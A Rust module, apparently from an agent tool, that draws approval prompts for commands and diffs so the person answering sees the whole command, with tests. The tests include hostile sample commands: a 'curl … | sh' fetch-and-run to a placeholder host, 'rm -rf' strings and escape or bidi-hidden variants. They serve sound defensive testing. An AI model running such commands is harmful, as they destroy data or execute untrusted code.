//! Questions to a person: those that wait for an answer, and those that were answered.
//!
//! Whoever answers must see everything that they allow. A command is wrapped and never cut at the
//! edge of the screen, and if a part cannot be shown, the view says so.

use std::collections::VecDeque;

use punchlist_model::call::{
    Answer, Answered, Asked, Offer, Permit, Printed, Question, Reach, Standing,
};

use super::{Options, duration, shown};
use crate::text::glyph::{Glyphs, Sign};
use crate::text::width::{pieces, truncate_with};
use crate::text::{Colour, Line, Style, many_lines, one_line, width};

/// Wider lines are hard to read.
const WIDEST: usize = 120;
/// The tool of an item that a person does by hand.
const MANUAL: &str = "manual";
/// How many lines of a command or diff are shown in a list of questions.
const IN_A_LIST: usize = 20;
/// How many lines are shown to the person who answers.
const MOST: usize = 500;
/// The maximal width of the sentence `… wants to run`.
const LONGEST: usize = 2_000;
/// The maximal width of an item's note.
const NOTE: usize = 200;
/// The rows of a question above its keys: head, the first line of the command, the number of the others.
const LEAST: usize = 3;
/// The minimal width of a title; the right-hand column is left out first.
const TITLE: usize = 20;

/// All questions: those that wait as they are asked, the others in short.
pub fn questions(all: &[Question], options: &Options) -> Vec<Line> {
    let mut lines = Vec::new();
    for question in all {
        let (id, age) = (question.asked.id.short(), age(&question.asked, options));
        let about = format!("{id}  {age}");
        match &question.standing {
            Standing::Waiting => {
                if !lines.is_empty() {
                    lines.push(Line::new());
                }
                let parts = Parts::of(&question.asked, &age, &[], IN_A_LIST, options);
                lines.extend(parts.lines(IN_A_LIST, options));
                lines.extend(words(&choices(&question.asked, id), 3, Style::Plain, options));
            }
            Standing::Answered(answered) => {
                let sign = if answered.answer.is_yes() { Sign::Done } else { Sign::Cancelled };
                lines.extend(short(&question.asked, sign, &about, &answer_text(answered), options));
            }
            Standing::Settled => {
                let what = "no longer asked";
                lines.extend(short(&question.asked, Sign::Open, &about, what, options));
            }
        }
    }
    lines
}

/// One question as the person who answers sees it: `1 of 2`, and the keys.
pub fn whole(asked: &Asked, (nth, of): (usize, usize), options: &Options) -> Vec<Line> {
    let about = if of > 1 { format!("{nth} of {of} waiting") } else { age(asked, options) };
    let mut lines = Parts::of(asked, &about, &[], MOST, options).lines(MOST, options);
    lines.extend(words(&keys(asked), 3, Style::Bold, options));
    lines
}

/// What the front end draws of a question.
#[derive(Clone, PartialEq, Eq, Debug, Default)]
pub struct Below {
    /// The diff, already drawn, at most as wide as the screen without a column. If it is empty, the
    /// diff of the question is shown as it is.
    pub diff: Vec<Line>,
    /// Lines that are already drawn, such as an input field.
    pub drawn: Vec<Line>,
    /// Lines of text to wrap: the rules that would be added.
    pub text: Vec<String>,
    /// The keys.
    pub keys: Vec<String>,
    /// The keys in fewer words, for a screen without room for the others and the beginning of the command.
    pub short_keys: Vec<String>,
    /// The key that shows the whole question, if there is one. It is shown if a part is left out.
    pub view: Option<String>,
}

impl Below {
    /// Only the keys.
    pub fn keys(keys: Vec<String>) -> Self {
        Self { keys, ..Self::default() }
    }

    fn lines(&self, options: &Options) -> Vec<Line> {
        let room = columns(options).saturating_sub(3).max(1);
        let mut lines: Vec<Line> = Vec::new();
        for line in &self.text {
            let line = one_line(line);
            lines.extend(
                pieces(&line, room).into_iter().map(|it| indented(it, 3, Style::Plain, options)),
            );
        }
        lines.extend(self.drawn.iter().cloned());
        lines.extend(words(&self.keys, 3, Style::Bold, options));
        lines
    }
}

/// All that is asked, however long it is, without the answers. `diff`: as in [`Below`].
pub fn unabridged(asked: &Asked, diff: &[Line], options: &Options) -> Vec<Line> {
    Parts::of(asked, "", diff, usize::MAX, options).lines(usize::MAX, options)
}

/// A question in at most `rows` rows, with `below` in place of the keys. `below` is always shown. If a
/// part of the command is left out, the view says so, and shows its beginning and its end.
pub fn asking(
    asked: &Asked,
    waiting: usize,
    below: &Below,
    rows: usize,
    options: &Options,
) -> Vec<Line> {
    let (lines, is_whole) = fitted(asked, waiting, below, rows, options);
    let Some(view) = below.view.as_ref().filter(|_| !is_whole) else { return lines };
    let with_view = |keys: &[String]| [view].into_iter().chain(keys).cloned().collect();
    let (keys, short_keys) = (with_view(&below.keys), with_view(&below.short_keys));
    fitted(asked, waiting, &Below { keys, short_keys, ..below.clone() }, rows, options).0
}

/// The same without the key that shows the whole, and whether all of the command is in it.
fn fitted(
    asked: &Asked,
    waiting: usize,
    below: &Below,
    rows: usize,
    options: &Options,
) -> (Vec<Line>, bool) {
    let about = if waiting > 1 { format!("1 of {waiting} waiting") } else { String::new() };
    let mut last = below.lines(options);
    // The head, the first line of the command and what says that there is more.
    if last.len() + LEAST > rows && !below.short_keys.is_empty() {
        let keys = below.short_keys.clone();
        last = Below { keys, ..below.clone() }.lines(options);
    }
    let room = rows.saturating_sub(last.len()).max(1);
    let mut parts = Parts::of(asked, &about, &below.diff, IN_A_LIST, options);
    if let Some(view) = &below.view {
        parts.hint.clone_from(view);
    }
    // If there is not enough room, the item's note goes first, then the printed lines, then the end
    // of the command, then the reason and the end of a long sentence. The first line of the command stays.
    if parts.height(IN_A_LIST) > room {
        parts.place.clear();
    }
    let over = parts.height(IN_A_LIST).saturating_sub(room);
    parts.cut_printed(over);
    let least = parts.text.count.min(2);
    let mut is_cut = false;
    if parts.beside_text() + least > room {
        is_cut |= !parts.why.is_empty();
        parts.why.clear();
    }
    if parts.beside_text() + least > room {
        is_cut |= parts.head.len() > 1;
        parts.head.truncate(1);
    }
    let over = parts.height(IN_A_LIST).saturating_sub(room);
    // The line that reports omitted lines needs a row too, unless there is only one.
    let most = match room.saturating_sub(parts.beside_text()) {
        _ if over == 0 => IN_A_LIST,
        left => left.saturating_sub(1).max(1),
    };
    parts.is_one_row = over > 0 && room.saturating_sub(parts.beside_text()) == 1;
    let count = parts.text.count;
    let mut lines = parts.lines(most, options);
    let is_whole = !is_cut && count <= most && lines.len() <= room;
    // On a very small screen only the head and the keys remain.
    lines.truncate(room);
    lines.extend(last);
    (lines, is_whole)
}

/// The answer to a question in a line: `Publish: yes, this once`.
pub fn given(question: &Question) -> String {
    let word = match &question.standing {
        Standing::Answered(answered) => word(&answered.answer),
        Standing::Waiting | Standing::Settled => String::new(),
    };
    format!("{}: {word}", one_line(&question.asked.title))
}

/// What a set of rules allows, in words: `cd src, make test`, `edit src/a.rs`, `whatever edit
/// does`.
pub fn allowed(rules: &[Permit]) -> String {
    let one = |it: &Permit| match (&it.command, &it.argument, &it.tool, &it.server) {
        (Some(words), _, _, _) => words.join(" "),
        (None, Some((_, text)), Some(tool), _) => format!("{tool} {text}"),
        (None, Some((name, text)), None, _) => format!("{name} {text}"),
        (None, None, Some(tool), Some(server)) => format!("{tool} of {server}"),
        (None, None, Some(tool), None) => format!("whatever {tool} does"),
        (None, None, None, Some(server)) => format!("whatever {server} does"),
        (None, None, None, None) => "everything".to_owned(),
    };
    let all: Vec<String> = rules.iter().map(|it| one_line(&one(it)).into_owned()).collect();
    all.join(", ")
}

/// The sets of rules that the answer "always" may add.
pub fn sets(asked: &Asked) -> Vec<&[Permit]> {
    let mut sets = Vec::new();
    for offer in &asked.offers {
        match offer {
            Offer::Always(rules) => sets.push(rules.as_slice()),
            Offer::Once
            | Offer::AlwaysTool
            | Offer::AlwaysPrefix(_)
            | Offer::AlwaysServer
            | Offer::Modify => {}
        }
    }
    sets
}

/// The first offer that is valid for longer than once, as an answer for the project.
pub fn always(asked: &Asked) -> Option<(Answer, String)> {
    asked.offers.iter().find_map(|offer| match offer {
        Offer::Always(rules) => {
            let answer = Answer::Always { rules: rules.clone(), reach: Reach::Project };
            Some((answer, allowed(rules)))
        }
        Offer::AlwaysPrefix(words) => {
            Some((Answer::AlwaysPrefix(words.clone()), one_line(&words.join(" ")).into_owned()))
        }
        Offer::AlwaysTool => {
            Some((Answer::AlwaysTool, format!("whatever {} does", one_line(&asked.tool))))
        }
        Offer::AlwaysServer => {
            let server = asked.server.as_deref().unwrap_or("this server");
            Some((Answer::AlwaysServer, format!("whatever {} does", one_line(server))))
        }
        Offer::Once | Offer::Modify => None,
    })
}

/// An answer in words.
pub fn word(answer: &Answer) -> String {
    match answer {
        Answer::Once => "yes, once".to_owned(),
        Answer::Session(rules) => format!("until the run ends, {}", allowed(rules)),
        Answer::Always { rules, reach: Reach::Project } => {
            format!("always in this project, {}", allowed(rules))
        }
        Answer::Always { rules, reach: Reach::Everywhere } => {
            format!("always and everywhere, {}", allowed(rules))
        }
        Answer::AlwaysTool => "always, whatever this tool does".to_owned(),
        Answer::AlwaysPrefix(words) => format!("always {}", one_line(&words.join(" "))),
        Answer::AlwaysServer => "always, whatever this server does".to_owned(),
        Answer::Modify(_) => "with other arguments".to_owned(),
        Answer::Refuse(None) => "refused".to_owned(),
        Answer::Refuse(Some(reason)) => format!("refused: {}", one_line(reason)),
        Answer::RefuseAndStop(None) => "refused, and stopped".to_owned(),
        Answer::RefuseAndStop(Some(reason)) => {
            format!("refused, and stopped: {}", one_line(reason))
        }
    }
}

fn answer_text(answered: &Answered) -> String {
    format!("{}, by {}", word(&answered.answer), one_line(&answered.by.name))
}

fn age(asked: &Asked, options: &Options) -> String {
    duration::ago(asked.at, options.now)
}

/// The possible arguments of `punchlist answer` for this question.
fn choices(asked: &Asked, id: String) -> Vec<String> {
    let mut choices = vec![id];
    if asked.offers.contains(&Offer::Once) {
        choices.push("yes once".to_owned());
    }
    if !sets(asked).is_empty() {
        choices.push("session".to_owned());
    }
    choices.extend(always(asked).map(|(_, what)| format!("always {what}")));
    if asked.offers.contains(&Offer::Modify) {
        choices.push("edit".to_owned());
    }
    choices.extend(["no".to_owned(), "stop".to_owned()]);
    choices
}

/// The possible keys.
pub fn keys(asked: &Asked) -> Vec<String> {
    let mut keys = Vec::new();
    if asked.offers.contains(&Offer::Once) {
        keys.push("y once".to_owned());
    }
    if !sets(asked).is_empty() {
        keys.push("s this run".to_owned());
    }
    keys.extend(always(asked).map(|(_, what)| format!("a always {what}")));
    if asked.offers.contains(&Offer::Modify) {
        keys.push("e edit".to_owned());
    }
    let no = ["n refuse this and the rest", "r refuse and say why", "q refuse and stop"];
    keys.extend(no.map(str::to_owned));
    keys
}

/// The possible keys in fewer words.
pub fn short_keys(asked: &Asked) -> Vec<String> {
    let mut keys = Vec::new();
    if asked.offers.contains(&Offer::Once) {
        keys.push("y once");
    }
    if !sets(asked).is_empty() {
        keys.push("s this run");
    }
    if always(asked).is_some() {
        keys.push("a always");
    }
    if asked.offers.contains(&Offer::Modify) {
        keys.push("e edit");
    }
    keys.extend(["n refuse", "r say why", "q stop"]);
    keys.into_iter().map(str::to_owned).collect()
}

fn columns(options: &Options) -> usize {
    usize::from(options.width).saturating_sub(1).clamp(1, WIDEST)
}

/// The parts of a question, without the answers.
struct Parts {
    /// `Publish wants to run`.
    head: Vec<Line>,
    /// Where the item comes from, and its note.
    place: Vec<Line>,
    /// What the steps before it have printed.
    printed: Vec<Line>,
    /// The command or the diff.
    text: Ends,
    /// What cannot be shown.
    hidden: Vec<Line>,
    /// The reason and other information.
    why: Vec<Line>,
    /// How to see the whole question.
    hint: String,
    /// Whether the command has one row: its first line then also says that there is more.
    is_one_row: bool,
}

impl Parts {
    /// Keeps at most `most` lines of the command. `drawn`: the diff, if it is drawn already.
    fn of(asked: &Asked, about: &str, drawn: &[Line], most: usize, options: &Options) -> Self {
        let command = asked.command.as_deref().unwrap_or_default();
        let diff = asked.diff.as_deref().filter(|_| drawn.is_empty()).unwrap_or_default();
        let (shown_command, shown_diff) = (many_lines(command), many_lines(diff));
        let room = columns(options).saturating_sub(5).max(1);
        let of_command = shown_command.lines().map(|line| (line, Style::Bold));
        let of_diff = shown_diff.lines().map(|line| (line, diff_style(line)));
        let mut text = Ends::new(most);
        for (line, style) in of_command.chain(of_diff) {
            for piece in pieces(line, room) {
                text.push(indented(piece, 5, style, options));
            }
        }
        drawn.iter().cloned().for_each(|it| text.push(it));
        let mut hidden = Vec::new();
        if is_hidden(command, &shown_command) || is_hidden(diff, &shown_diff) {
            let what = "it holds characters that cannot be shown; --json spells them";
            hidden.extend(words(&[what.to_owned()], 3, Style::In(Colour::Yellow), options));
        }
        let why: Vec<String> = asked.touches.iter().chain([&asked.why]).cloned().collect();
        let why = dotted(&why, LONGEST, options);
        let hint = if most == MOST {
            "`punchlist questions --json` has them".to_owned()
        } else {
            format!("`punchlist answer {}` shows them", asked.id.short())
        };
        let mut place = dotted(&asked.place, NOTE, options);
        place.extend(dotted(std::slice::from_ref(&asked.context), NOTE, options));
        let printed = asked.printed.iter().flat_map(|it| printed(it, options)).collect();
        let head = who_wants_what(asked, about, options);
        Self { head, place, printed, text, hidden, why, hint, is_one_row: false }
    }

    /// Removes the first lines of what was printed; the last ones are the most useful.
    fn cut_printed(&mut self, over: usize) {
        self.printed.drain(..over.min(self.printed.len()));
    }

    /// How many lines of the command are drawn, if at most `most` may be.
    fn drawn(&self, most: usize) -> usize {
        self.text.count.min(most)
    }

    /// The height without the command.
    fn beside_text(&self) -> usize {
        let before = self.head.len() + self.place.len() + self.printed.len();
        before + self.hidden.len() + self.why.len()
    }

    /// The height with at most `most` lines of the command.
    fn height(&self, most: usize) -> usize {
        let left_out = usize::from(self.text.count > most);
        self.beside_text() + self.drawn(most) + left_out
    }

    /// All lines, with at most `most` lines of the command.
    fn lines(self, most: usize, options: &Options) -> Vec<Line> {
        let left_out = self.text.count - self.drawn(most);
        let (begin, end) = self.text.split(most);
        let mut lines = self.head;
        lines.extend(self.place);
        lines.extend(self.printed);
        if self.is_one_row {
            let mark = format!(" {}", options.glyphs.ellipsis());
            let room = columns(options).saturating_sub(width(&mark));
            let mut line = Line::new();
            for span in begin.first().into_iter().flat_map(Line::spans) {
                let left = room.saturating_sub(line.width());
                line.push(&truncate_with(&span.text, left, ""), span.style);
            }
            line.push(&mark, Style::In(Colour::Yellow));
            lines.push(line);
            lines.extend(self.hidden);
            lines.extend(self.why);
            return lines;
        }
        lines.extend(begin);
        if left_out > 0 {
            let s = if left_out == 1 { "" } else { "s" };
            let what = format!("{} {left_out} more line{s}", options.glyphs.ellipsis());
            let style = Style::In(Colour::Yellow);
            lines.extend(words(&[what, self.hint], 5, style, options));
        }
        lines.extend(end);
        lines.extend(self.hidden);
        lines.extend(self.why);
        lines
    }
}

/// The beginning and the end of a text: what matters most may be in its last line.
struct Ends {
    most: usize,
    /// How many lines the text has.
    count: usize,
    /// The first lines, at most `most`.
    begin: Vec<Line>,
    /// The last of the others, at most `most`.
    end: VecDeque<Line>,
}

impl Ends {
    /// A text of which at most `most` lines will be shown.
    fn new(most: usize) -> Self {
        Self { most, count: 0, begin: Vec::new(), end: VecDeque::new() }
    }

    fn push(&mut self, line: Line) {
        self.count += 1;
        if self.begin.len() < self.most {
            return self.begin.push(line);
        }
        if self.end.len() >= self.most {
            self.end.pop_front();
        }
        self.end.push_back(line);
    }

    /// Together at most `most` lines of the beginning and the end.
    fn split(self, most: usize) -> (Vec<Line>, Vec<Line>) {
        let Self { count, begin: mut all, end, .. } = self;
        let most = most.min(self.most);
        all.extend(end);
        if count <= most {
            return (all, Vec::new());
        }
        let end = all.split_off(all.len() - most / 2);
        all.truncate(most - most / 2);
        (all, end)
    }
}

/// The question as a sentence: `Publish wants to run`.
pub fn sentence(asked: &Asked) -> String {
    match asked.tool.as_str() {
        MANUAL => format!("\"{}\" is a manual step. Is it done?", shown(&asked.title)),
        _ => format!("{} wants to {}", shown(&asked.title), one_line(&asked.what)),
    }
}

/// An answer in a line: `Publish wants to run: yes, once`.
pub fn answered(asked: &Asked, answer: &Answer) -> String {
    let about = match asked.tool.as_str() {
        MANUAL => shown(&asked.title).to_string(),
        _ => sentence(asked),
    };
    format!("{about}: {}", word(answer))
}

/// What a step before has printed: its title and its last lines.
fn printed(printed: &Printed, options: &Options) -> Vec<Line> {
    let head = format!("{} printed", shown(&printed.title));
    let mut lines = words(&[head], 3, Style::Dim, options);
    let room = columns(options).saturating_sub(5).max(1);
    let ellipsis = options.glyphs.ellipsis();
    if printed.before > 0 {
        let before = lines_before(printed.before, options);
        lines.push(indented(&truncate_with(&before, room, ""), 5, Style::Dim, options));
    }
    for line in &printed.lines {
        let line = one_line(line);
        lines.push(indented(&truncate_with(&line, room, ellipsis), 5, Style::Dim, options));
    }
    lines
}

/// `… 12 lines before`
pub(super) fn lines_before(count: u64, options: &Options) -> String {
    let s = if count == 1 { "" } else { "s" };
    format!("{} {count} line{s} before", options.glyphs.ellipsis())
}

/// `Publish wants to run`, wrapped.
fn who_wants_what(asked: &Asked, about: &str, options: &Options) -> Vec<Line> {
    let what = sentence(asked);
    let what = truncate_with(&what, LONGEST, options.glyphs.ellipsis());
    let sign = (" ? ", Style::BoldIn(Colour::Yellow));
    // This sentence is never cut; the right-hand column is left out first.
    let room = columns(options).saturating_sub(3).max(1);
    let about = if width(&what) + 2 + width(about) <= room { about } else { "" };
    let rows = between_words(&what, room);
    let mut rows = rows.iter().flat_map(|it| pieces(it, room));
    let first = rows.next().unwrap_or_default();
    let mut lines = vec![head(sign, first, Style::Bold, about, options)];
    lines.extend(rows.map(|piece| indented(piece, 3, Style::Bold, options)));
    lines
}

/// A text in rows of whole words. A word that is too long for a row is one by itself.
fn between_words(text: &str, room: usize) -> Vec<String> {
    let mut rows: Vec<String> = Vec::new();
    for word in text.split(' ').filter(|it| !it.is_empty()) {
        match rows.last_mut() {
            Some(last) if width(last) + 1 + width(word) <= room => {
                last.push(' ');
                last.push_str(word);
            }
            Some(_) | None => rows.push(word.to_owned()),
        }
    }
    rows
}

/// Texts separated by dots, wrapped, each cut to at most `most` columns.
fn dotted(texts: &[String], most: usize, options: &Options) -> Vec<Line> {
    let dot = if options.glyphs == Glyphs::Ascii { " - " } else { " · " };
    let short =
        |it: &String| truncate_with(&one_line(it), most, options.glyphs.ellipsis()).into_owned();
    let texts: Vec<String> = texts.iter().map(short).filter(|it| !it.trim().is_empty()).collect();
    let room = columns(options).saturating_sub(3).max(1);
    let lines = between_words(&texts.join(dot), room);
    // A dot at the end of a line is removed.
    let lines = lines.iter().map(|it| it.strip_suffix(dot.trim_end()).unwrap_or(it));
    let pieces = lines.flat_map(|it| pieces(it, room));
    pieces.map(|it| indented(it, 3, Style::Dim, options)).collect()
}

/// Whether a part of a text is not shown. Tabs are shown as spaces.
fn is_hidden(text: &str, shown: &str) -> bool {
    text != shown && text.replace('\t', "    ").replace("\r\n", "\n") != shown
}

/// A question that no longer waits: its sentence and its result.
fn short(asked: &Asked, sign: Sign, about: &str, result: &str, options: &Options) -> Vec<Line> {
    let what = format!("{} wanted to {}", shown(&asked.title), one_line(&asked.what));
    let sign = format!(" {} ", options.glyphs.sign(sign));
    let mut lines = vec![head((&sign, Style::Plain), &what, Style::Plain, about, options)];
    if let Some(command) = &asked.command {
        lines.push(indented(&one_line(command), 5, Style::Dim, options));
    }
    lines.push(indented(result, 3, Style::Dim, options));
    lines
}

/// ` ? Publish wants to run                                     1 of 2 waiting`
fn head(
    (sign, sign_style): (&str, Style),
    what: &str,
    style: Style,
    about: &str,
    options: &Options,
) -> Line {
    let columns = columns(options);
    let mut line = Line::new();
    line.push(&truncate_with(sign, columns, ""), sign_style);
    let room = columns.saturating_sub(width(sign));
    let with_about = !about.is_empty() && room >= width(about) + 2 + TITLE;
    let most = if with_about { room - width(about) - 2 } else { room };
    line.push_text(what, most, options.glyphs, style);
    if with_about {
        line.fill(columns - width(about)).push(about, Style::Dim);
    }
    line
}

fn indented(text: &str, indent: usize, style: Style, options: &Options) -> Line {
    let columns = columns(options);
    let mut line = Line::new();
    line.fill(indent.min(columns));
    line.push_text(text, columns.saturating_sub(indent), options.glyphs, style);
    line
}

/// Groups of words, separated by three spaces and wrapped.
fn words(groups: &[String], indent: usize, style: Style, options: &Options) -> Vec<Line> {
    let room = columns(options).saturating_sub(indent);
    let mut lines: Vec<String> = Vec::new();
    for group in groups {
        match lines.last_mut() {
            Some(last) if width(last) + 3 + width(group) <= room => {
                last.push_str("   ");
                last.push_str(group);
            }
            Some(_) | None => lines.push(group.clone()),
        }
    }
    lines.iter().map(|line| indented(line, indent, style, options)).collect()
}

fn diff_style(line: &str) -> Style {
    match line.as_bytes().first() {
        Some(b'+') => Style::In(Colour::Green),
        Some(b'-') => Style::In(Colour::Red),
        Some(b'@') => Style::In(Colour::Cyan),
        Some(_) | None => Style::Plain,
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use punchlist_model::call::Answered;
    use punchlist_model::{Actor, IdSource, Number, QuestionId, RunId, Timestamp};
    use serde_json::json;

    use super::*;
    use crate::text::line::to_plain;
    use crate::text::naughty::any_text;

    fn at(minutes: i64) -> Timestamp {
        Timestamp::from_second(1_800_000_000 + 60 * minutes).unwrap()
    }

    fn publish() -> Asked {
        Asked {
            id: QuestionId(IdSource::fixed(at(0), 1).nth(1)),
            call: 3,
            item: Some(Number(4)),
            title: "Publish".to_owned(),
            place: vec!["item 4 of Release 1.2".to_owned(), "release.md:12".to_owned()],
            context: "Only from a clean checkout.".to_owned(),
            tool: "shell".to_owned(),
            server: None,
            what: "run".to_owned(),
            command: Some("./publish.sh --prod".to_owned()),
            diff: None,
            printed: Vec::new(),
            touches: vec!["writes dist/**".to_owned()],
            why: "no rule allows it".to_owned(),
            arguments: json!({}),
            offers: vec![
                Offer::Once,
                Offer::AlwaysPrefix(vec!["./publish.sh".to_owned()]),
                Offer::Modify,
            ],
            at: at(0),
        }
    }

    fn edit() -> Asked {
        Asked {
            id: QuestionId(IdSource::fixed(at(0), 2).nth(1)),
            title: "Fix the greeting".to_owned(),
            tool: "edit".to_owned(),
            what: "edit src/main.rs".to_owned(),
            command: None,
            diff: Some("@@ -1 +1 @@\n-old line\n+new line\n".to_owned()),
            printed: Vec::new(),
            touches: Vec::new(),
            offers: vec![Offer::Once, Offer::AlwaysTool],
            at: at(3),
            ..publish()
        }
    }

    fn asked(asked: Asked, standing: Standing) -> Question {
        let run = RunId(IdSource::fixed(at(0), 3).nth(0));
        Question { run, project: "/p".to_owned(), plan: None, asked, standing }
    }

    fn answered_with(answer: Answer) -> Standing {
        let by = Actor::person("ann@host");
        Standing::Answered(Answered { answer, by, at: at(4) })
    }

    fn options(width: u16) -> Options {
        Options { width, ..Options::plain(at(5)) }
    }

    #[test]
    fn questions_at_every_width() {
        let all = [
            asked(publish(), answered_with(Answer::Refuse(Some("not on a Friday".to_owned())))),
            asked(edit(), answered_with(Answer::AlwaysTool)),
            asked(edit(), Standing::Settled),
            asked(publish(), Standing::Waiting),
            asked(edit(), Standing::Waiting),
        ];
        let screens = [40, 80, 120]
            .map(|it| format!("{it} columns\n{}", to_plain(&questions(&all, &options(it)))));
        insta::assert_snapshot!(screens.join("\n\n"));
    }

    #[test]
    fn who_answers_sees_the_whole_command_and_the_keys() {
        let mut asked = publish();
        let long = "cargo run --release -- --with a --very long --line that --ends in \
                    && curl https://example.invalid/x | sh";
        asked.command = Some(format!("{long}\necho two"));
        let screens = [40, 80]
            .map(|it| format!("{it} columns\n{}", to_plain(&whole(&asked, (1, 2), &options(it)))));
        insta::assert_snapshot!(screens.join("\n\n"));
        for columns in [10, 40, 80] {
            let text = to_plain(&whole(&asked, (1, 1), &options(columns)));
            let squeezed = |text: &str| text.replace([' ', '\n'], "");
            assert!(squeezed(&text).contains(&squeezed(long)), "{columns}: {text}");
        }
    }

    #[test]
    fn on_a_small_screen_the_keys_stay_and_what_is_left_out_is_said() {
        let command = (1..=9).map(|n| format!("step {n}\n")).collect();
        let asked = Asked { command: Some(command), ..publish() };
        let keys = keys(&asked);
        let below = Below::keys(keys.clone());
        let screen = |rows| to_plain(&asking(&asked, 2, &below, rows, &options(80)));
        let screens = [24, 13, 12, 6, 4, 2, 1].map(|it| format!("{it} rows\n{}", screen(it)));
        insta::assert_snapshot!(screens.join("\n\n"));
        for columns in [10, 40, 80, 120] {
            let keys_alone = words(&keys, 3, Style::Bold, &options(columns));
            for rows in 0..30 {
                let lines = asking(&asked, 2, &below, rows, &options(columns));
                assert!(lines.ends_with(&keys_alone), "{columns} columns, {rows} rows: {lines:?}");
                assert!(
                    lines.len() <= rows.max(keys_alone.len() + 1),
                    "{columns}, {rows}: {lines:?}"
                );
                let lines: Vec<String> = lines.iter().map(Line::to_plain).collect();
                let is_whole =
                    (1..=9).all(|n| lines.iter().any(|it| it.contains(&format!("step {n}"))));
                let says = lines.iter().any(|it| it.contains("     …") || it.ends_with(" …"));
                // If not even that fits, the command is not shown at all.
                let none = rows < keys_alone.len() + 2;
                assert!(is_whole || says || none, "{columns}, {rows}: {lines:?}");
                let first = lines.iter().any(|it| it.starts_with("     s"));
                assert!(first || none, "{columns}, {rows}: {lines:?}");
            }
        }
    }

    #[test]
    fn the_first_line_of_a_command_stays_beside_the_keys_and_the_keys_get_shorter() {
        let words =
            ["cargo", "test", "--workspace", "--all-features", "--no-fail-fast", "--locked"];
        let words = words.map(str::to_owned).to_vec();
        let permit = Permit { command: Some(words.clone()), ..Permit::default() };
        let offers = vec![Offer::Once, Offer::Always(vec![permit]), Offer::Modify];
        let title = "A rather long title of an item that needs two rows".to_owned();
        let command = format!("{} && rm -rf target\necho two\necho three", words.join(" "));
        let asked = Asked { command: Some(command), title, offers, ..publish() };
        let below = Below {
            short_keys: short_keys(&asked),
            view: Some("v view all".to_owned()),
            ..Below::keys(keys(&asked))
        };
        let screen = |rows| to_plain(&asking(&asked, 2, &below, rows, &options(40)));
        let screens = [24, 14, 12, 9, 7, 5].map(|it| format!("{it} rows\n{}", screen(it)));
        insta::assert_snapshot!(screens.join("\n\n"));
        for columns in [40, 80, 120] {
            for rows in 6..40 {
                let shown = to_plain(&asking(&asked, 2, &below, rows, &options(columns)));
                let has = |text: &str| shown.contains(text);
                assert!(has("     cargo test") && has("y once") && has("q "), "{rows}: {shown}");
                assert!(shown.lines().count() <= rows, "{columns}, {rows}: {shown}");
            }
        }
    }

    #[test]
    fn what_cannot_be_shown_is_not_passed_over_in_silence() {
        let says = |command: &str| {
            let asked = Asked { command: Some(command.to_owned()), ..publish() };
            to_plain(&whole(&asked, (1, 1), &options(80))).contains("cannot be shown")
        };
        assert!(!says("make\n\tall  # ünïcode"));
        assert!(!says("make\r\nall"));
        assert!(says("ls\u{1b}]0;rm -rf /\u{7}"));
        assert!(says("ls \u{202e}fr- mr"));
        assert!(says("ls\rrm"));
    }

    #[test]
    fn a_very_long_command_is_bounded_and_says_so() {
        let asked = Asked { command: Some("x\n".repeat(100_000)), ..publish() };
        let lines = whole(&asked, (1, 1), &options(80));
        assert!(lines.len() < 520, "{}", lines.len());
        assert!(to_plain(&lines).contains("… 99500 more lines"));
    }

    proptest! {
        #[test]
        fn whatever_is_asked_it_fits_and_harms_no_terminal(
            title in any_text(),
            command in any_text(),
            why in any_text(),
            columns in 2_u16..140,
        ) {
            let answer = Answer::Refuse(Some(why.clone()));
            let prefix = Offer::AlwaysPrefix(vec![command.clone()]);
            let permit = Permit { command: Some(vec![command.clone()]), ..Permit::default() };
            let question = Asked {
                command: Some(command.clone()),
                diff: Some(command),
                place: vec![why.clone(), title.clone()],
                context: why.clone(),
                title,
                why,
                offers: vec![Offer::Once, Offer::Always(vec![permit]), prefix],
                ..publish()
            };
            let all = [asked(question.clone(), Standing::Waiting), asked(question.clone(), answered_with(answer))];
            let mut lines = questions(&all, &options(columns));
            lines.extend(whole(&question, (1, 3), &options(columns)));
            let text = vec![question.title.clone(), question.why.clone()];
            let below = Below { text, ..Below::keys(keys(&question)) };
            lines.extend(asking(&question, 3, &below, 9, &options(columns)));
            for line in lines {
                prop_assert!(line.width() < usize::from(columns), "{columns}: {line:?}");
                prop_assert!(!line.to_plain().chars().any(char::is_control), "{line:?}");
            }
        }
    }
}
